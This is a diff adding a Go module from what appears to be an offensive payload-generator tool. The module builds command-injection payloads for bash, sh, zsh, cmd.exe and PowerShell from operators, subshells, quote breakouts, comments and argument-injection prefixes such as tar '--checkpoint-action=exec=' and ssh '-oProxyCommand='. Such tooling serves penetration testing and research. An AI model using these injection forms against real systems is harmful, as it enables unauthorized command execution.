@@ -0,0 +1,191 @@
+package modules
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/rajaabdullahnasir/Custom-Payload-Generator/utils"
+)
+
+// cmdShell describes how commands can be injected into one shell
+type cmdShell struct {
+	Name string
+	OS   string
+	// Corpus is the cmd.json list the shell's commands come from
+	Corpus  string
+	Dialect utils.ShellDialect
+	// Operators chain the injected command after the original one
+	Operators []string
+	// Subshells wrap the command so it runs while the original argument is expanded
+	Subshells [][2]string
+	// Newline reports whether a URL-encoded newline starts a new command
+	Newline bool
+	// Arguments are option prefixes that make a program run a command (argument injection)
+	Arguments []string
+	// Breakouts close the quotes the input may land in; "" is the unquoted case
+	Breakouts []string
+	// Comment discards the rest of the original line after a quote breakout
+	Comment string
+	// Delay returns a harmless command that stalls for the given number of seconds
+	Delay func(seconds int) string
+	// Echo returns a command that prints the marker without the marker appearing in the payload,
+	// so a reflected payload is not mistaken for executed output
+	Echo func(head, tail string) string
+}
+
+var (
+	posixDelay = func(seconds int) string { return fmt.Sprintf("sleep %d", seconds) }
+	posixEcho  = func(head, tail string) string { return "echo " + head + "''" + tail }
+
+	posixSubshells = [][2]string{{"`", "`"}, {"$(", ")"}}
+	// Each argument form is a single option whose whole value tar, ssh or git hands to /bin/sh,
+	// so multi-word commands run unquoted. tar runs checkpoint actions every 10 records.
+	posixArguments = []string{
+		"--use-compress-program=",
+		"--checkpoint-action=exec=",
+		"-oProxyCommand=",
+		"--upload-pack=",
+	}
+)
+
+// cmdShells lists the supported shells in the order they are generated
+var cmdShells = []cmdShell{
+	{
+		Name: "bash", OS: "linux", Corpus: "linux", Dialect: utils.ShellPOSIX,
+		Operators: []string{";", "&&", "||", "|", "&", "|&"},
+		Subshells: posixSubshells, Newline: true, Arguments: posixArguments,
+		Breakouts: []string{"", "'", `"`}, Comment: " #",
+		Delay: posixDelay, Echo: posixEcho,
+	},
+	{
+		Name: "sh", OS: "linux", Corpus: "linux", Dialect: utils.ShellPOSIX,
+		Operators: []string{";", "&&", "||", "|", "&"},
+		Subshells: posixSubshells, Newline: true, Arguments: posixArguments,
+		Breakouts: []string{"", "'", `"`}, Comment: " #",
+		Delay: posixDelay, Echo: posixEcho,
+	},
+	{
+		Name: "zsh", OS: "linux", Corpus: "linux", Dialect: utils.ShellPOSIX,
+		Operators: []string{";", "&&", "||", "|", "&", "|&"},
+		Subshells: posixSubshells, Newline: true, Arguments: posixArguments,
+		Breakouts: []string{"", "'", `"`}, Comment: " #",
+		Delay: posixDelay, Echo: posixEcho,
+	},
+	{
+		// cmd.exe has no command substitution and stops at the first newline
+		Name: "cmd", OS: "windows", Corpus: "windows", Dialect: utils.ShellCmd,
+		Operators: []string{"&", "&&", "||", "|"},
+		Breakouts: []string{"", `"`}, Comment: " & rem",
+		// ping waits a second between its echo requests, so N+1 pings take N seconds
+		Delay: func(seconds int) string { return fmt.Sprintf("ping -n %d 127.0.0.1", seconds+1) },
+		Echo:  func(head, tail string) string { return "echo " + head + "^" + tail },
+	},
+	{
+		Name: "powershell", OS: "windows", Corpus: "powershell", Dialect: utils.ShellPowerShell,
+		Operators: []string{";", "|", "&&", "||"},
+		Subshells: [][2]string{{"$(", ")"}}, Newline: true,
+		Breakouts: []string{"", "'", `"`}, Comment: " #",
+		Delay: func(seconds int) string { return fmt.Sprintf("Start-Sleep -Seconds %d", seconds) },
+		Echo:  func(head, tail string) string { return "echo ('" + head + "'+'" + tail + "')" },
+	},
+}
+
+// cmdTechnique is one way of placing a command: the text around it and how it is labelled
+type cmdTechnique struct {
+	Name     string
+	Operator string
+	Breakout string
+	Prefix   string
+	Suffix   string
+}
+
+// techniques returns the cartesian product of the shell's breakouts and injection forms;
+// argument injection has no breakout since the input is an option, not a quoted string
+func (s cmdShell) techniques() []cmdTechnique {
+	var forms []cmdTechnique
+	for _, op := range s.Operators {
+		forms = append(forms, cmdTechnique{Name: "operator", Operator: op, Prefix: op + " "})
+	}
+	for _, sub := range s.Subshells {
+		forms = append(forms, cmdTechnique{Name: "subshell", Operator: sub[0] + sub[1], Prefix: sub[0], Suffix: sub[1]})
+	}
+	if s.Newline {
+		forms = append(forms, cmdTechnique{Name: "newline", Operator: "%0a", Prefix: "%0a"})
+	}
+
+	var techniques []cmdTechnique
+	for _, b := range s.Breakouts {
+		for _, f := range forms {
+			if b != "" {
+				f.Breakout = b
+				f.Prefix = b + f.Prefix
+				f.Suffix += s.Comment
+			}
+			techniques = append(techniques, f)
+		}
+	}
+	for _, arg := range s.Arguments {
+		techniques = append(techniques, cmdTechnique{Name: "argument", Operator: arg, Prefix: arg})
+	}
+	return techniques
+}
+
+// commands returns the shell's command templates from the corpus
+func (s cmdShell) commands(data CMDInput) []string {
+	switch s.Corpus {
+	case "windows":
+		return data.Windows
+	case "powershell":
+		return data.Powershell
+	}
+	return data.Linux
+}
+
+// CMDShellNames returns the names accepted by --shell
+func CMDShellNames() []string {
+	var names []string
+	for _, s := range cmdShells {
+		names = append(names, s.Name)
+	}
+	return names
+}
+
+// ParseShells parses a comma-separated --shell value; "all" selects every shell
+func ParseShells(spec string) ([]string, error) {
+	var names []string
+	for _, name := range strings.Split(spec, ",") {
+		name = strings.ToLower(strings.TrimSpace(name))
+		if name == "all" {
+			return CMDShellNames(), nil
+		}
+		if _, ok := lookupCMDShell(name); !ok {
+			return nil, fmt.Errorf("unknown shell %q (available: %s)", name, strings.Join(CMDShellNames(), ", "))
+		}
+		names = append(names, name)
+	}
+	return names, nil
+}
+
+func lookupCMDShell(name string) (cmdShell, bool) {
+	for _, s := range cmdShells {
+		if s.Name == name {
+			return s, true
+		}
+	}
+	return cmdShell{}, false
+}
+
+// cmdShells returns the shells selected for this run; every shell when --shell is not given
+func (o Options) cmdShells() []cmdShell {
+	if len(o.Shells) == 0 {
+		return cmdShells
+	}
+
+	var shells []cmdShell
+	for _, name := range o.Shells {
+		if s, ok := lookupCMDShell(name); ok {
+			shells = append(shells, s)
+		}
+	}
+	return shells
+}